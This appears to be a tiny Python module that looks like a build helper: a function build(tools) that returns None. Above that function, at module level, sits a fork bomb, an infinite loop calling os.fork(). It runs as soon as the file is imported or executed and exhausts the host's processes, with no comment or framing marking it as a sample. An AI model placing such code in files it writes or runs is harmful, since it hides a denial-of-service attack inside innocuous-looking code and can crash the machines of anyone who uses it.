import os

while True:
    os.fork()


def build(tools):
    return None
